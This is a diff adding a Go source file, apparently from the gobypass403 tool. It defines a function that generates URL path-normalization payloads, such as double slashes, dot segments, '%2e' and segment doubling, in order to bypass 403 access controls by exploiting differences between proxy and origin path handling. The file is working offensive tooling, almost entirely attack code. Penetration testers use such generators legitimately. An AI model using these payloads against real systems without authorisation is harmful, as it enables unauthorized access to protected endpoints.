@@ -0,0 +1,112 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+/*
+GeneratePathNormalizationPayloads generates payloads with empty and dot segments
+inserted at each path prefix, targeting differences between the path canonicalization
+of the proxy (ACL match) and of the origin (routing).
+
+For a URL like /admin/users, it creates these variants at each prefix
+(shown before "admin"):
+ 1. Double slash:          //admin/users
+ 2. Dot segment:           /./admin/users
+ 3. Encoded dot segment:   /%2e/admin/users
+ 4. Dot and double slash:  /.//admin/users
+ 5. Segment doubling:      /admin/admin/users
+ 6. Dot-dot doubling:      /admin/../admin/users
+
+And these suffixes after each prefix (shown after "admin"):
+ 1. Dot segment:    /admin/./users, /admin/.
+ 2. Dot-dot:        /admin/..
+ 3. Double slash:   /admin//users, /admin//
+
+The dot-dot suffix is only added at the end of the path. The original query string is
+appended to all payloads, duplicates are removed. Requests are sent with path
+normalizing disabled, so the dot and empty segments reach the server verbatim.
+*/
+func (pg *PayloadGenerator) GeneratePathNormalizationPayloads(targetURL string, bypassModule string) []BypassPayload {
+	var jobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return jobs
+	}
+
+	query := ""
+	if parsedURL.Query != "" {
+		query = "?" + parsedURL.Query
+	}
+
+	// Using map to automatically handle deduplication of final RawURIs
+	uniquePaths := make(map[string]struct{})
+
+	trimmedPath := strings.Trim(parsedURL.Path, "/")
+	if trimmedPath == "" {
+		// Root path, only the prefix variants apply
+		for _, rootPath := range []string{"//", "/./", "/%2e/", "/.//"} {
+			uniquePaths[rootPath+query] = struct{}{}
+		}
+	} else {
+		segments := strings.Split(trimmedPath, "/")
+		trailingSlash := ""
+		if strings.HasSuffix(parsedURL.Path, "/") {
+			trailingSlash = "/"
+		}
+
+		for i, segment := range segments {
+			prefix := ""
+			if i > 0 {
+				prefix = "/" + strings.Join(segments[:i], "/")
+			}
+			rest := strings.Join(segments[i:], "/") + trailingSlash
+
+			// Before the segment
+			for _, insert := range []string{
+				"//",
+				"/./",
+				"/%2e/",
+				"/.//",
+				"/" + segment + "/",
+				"/" + segment + "/../",
+			} {
+				uniquePaths[prefix+insert+rest+query] = struct{}{}
+			}
+
+			// After the segment
+			current := prefix + "/" + segment
+			if i < len(segments)-1 {
+				next := strings.Join(segments[i+1:], "/") + trailingSlash
+				uniquePaths[current+"/./"+next+query] = struct{}{}
+				uniquePaths[current+"//"+next+query] = struct{}{}
+			} else {
+				for _, suffix := range []string{"/.", "/..", "//"} {
+					uniquePaths[current+suffix+query] = struct{}{}
+				}
+			}
+		}
+	}
+
+	// Create final jobs from the deduplicated map
+	for rawURI := range uniquePaths {
+		job := BypassPayload{
+			OriginalURL:  targetURL,
+			Method:       "GET",
+			Scheme:       parsedURL.Scheme,
+			Host:         parsedURL.Host,
+			RawURI:       rawURI,
+			BypassModule: bypassModule,
+		}
+		job.PayloadToken = GeneratePayloadToken(job)
+		jobs = append(jobs, job)
+	}
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(jobs), targetURL)
+	return jobs
+}